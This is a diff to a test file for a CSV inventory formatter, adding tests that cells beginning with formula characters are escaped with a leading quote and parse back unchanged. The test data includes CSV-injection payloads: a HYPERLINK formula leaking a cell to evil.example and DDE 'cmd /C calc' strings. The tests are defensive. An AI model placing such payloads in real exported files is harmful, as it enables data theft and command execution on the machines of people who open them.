@@ -310,6 +310,34 @@ describe('formatInventoryCsv', () => {
     expect(formatInventoryCsv({ people: [], policies: [], systems: [], patches: [] }, 'people')).toBe(`${PEOPLE_HEADER}\n`);
   });
 
+  it('writes cells a spreadsheet would run as formulas with a leading quote, and imports them back unchanged', () => {
+    const titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"Fix")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1 day', '-5', '-rc2 rebuild', "'=quoted on purpose", "it's fine", '\uFF1Dwide'];
+    const doc = inventory({
+      people: [{ handle: 'eve', name: '=cmd|\' /C calc\'!A0', chat: {}, timeZone: 'UTC', workingHours: { days: [1, 2, 3, 4, 5], startMinute: 540, endMinute: 1080 } }],
+      patches: titles.map((title, index) => patch('mail-gw-1', `CVE-2026-${index}`, Date.UTC(2026, 0, 1), { title, advisory: index === 0 ? '-1' : `CVE-2026-${index}` })),
+    });
+    const written = formatInventoryCsv(doc, 'patches');
+    expect(written.split('\n').slice(1, 9)).toEqual([
+      `mail-gw-1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Fix"")",-1,critical,2026-01-01,`,
+      `mail-gw-1,"'@SUM(1+1)*cmd|"" /C calc""!A0",CVE-2026-1,critical,2026-01-01,`,
+      "mail-gw-1,'+1 day,CVE-2026-2,critical,2026-01-01,",
+      // A plain negative number runs nothing and stays a number in the spreadsheet.
+      'mail-gw-1,-5,CVE-2026-3,critical,2026-01-01,',
+      "mail-gw-1,'-rc2 rebuild,CVE-2026-4,critical,2026-01-01,",
+      "mail-gw-1,''=quoted on purpose,CVE-2026-5,critical,2026-01-01,",
+      "mail-gw-1,it's fine,CVE-2026-6,critical,2026-01-01,",
+      "mail-gw-1,'\uFF1Dwide,CVE-2026-7,critical,2026-01-01,",
+    ]);
+    expect(parseInventoryCsv(written).patches).toStrictEqual(doc.patches);
+    expect(formatInventoryCsv(doc, 'people').split('\n')[1]).toBe("eve,'=cmd|' /C calc'!A0,,,UTC,,mon-fri,09:00-18:00");
+    expect(parseInventoryCsv(formatInventoryCsv(doc, 'people')).people).toStrictEqual(doc.people);
+  });
+
+  it('reads a hand-written cell with one quote before a formula character as the spreadsheet showed it', () => {
+    const doc = parseInventoryCsv(csv(PATCHES_HEADER, "mail-gw-1,'=1+1,,low,2026-01-01,", "mail-gw-1,'just a quote,,low,2026-01-01,", 'mail-gw-1,-5,,low,2026-01-01,'));
+    expect(doc.patches.map((p) => p.title)).toEqual(['=1+1', "'just a quote", '-5']);
+  });
+
   it('refuses a freeze reason that the CSV list separator would split', () => {
     const doc = inventory({ systems: [system('mx-1', { freezes: [{ from: 0, to: DAY, reason: 'audit; then holidays' }] })] });
     expect(() => formatInventoryCsv(doc, 'systems')).toThrow(
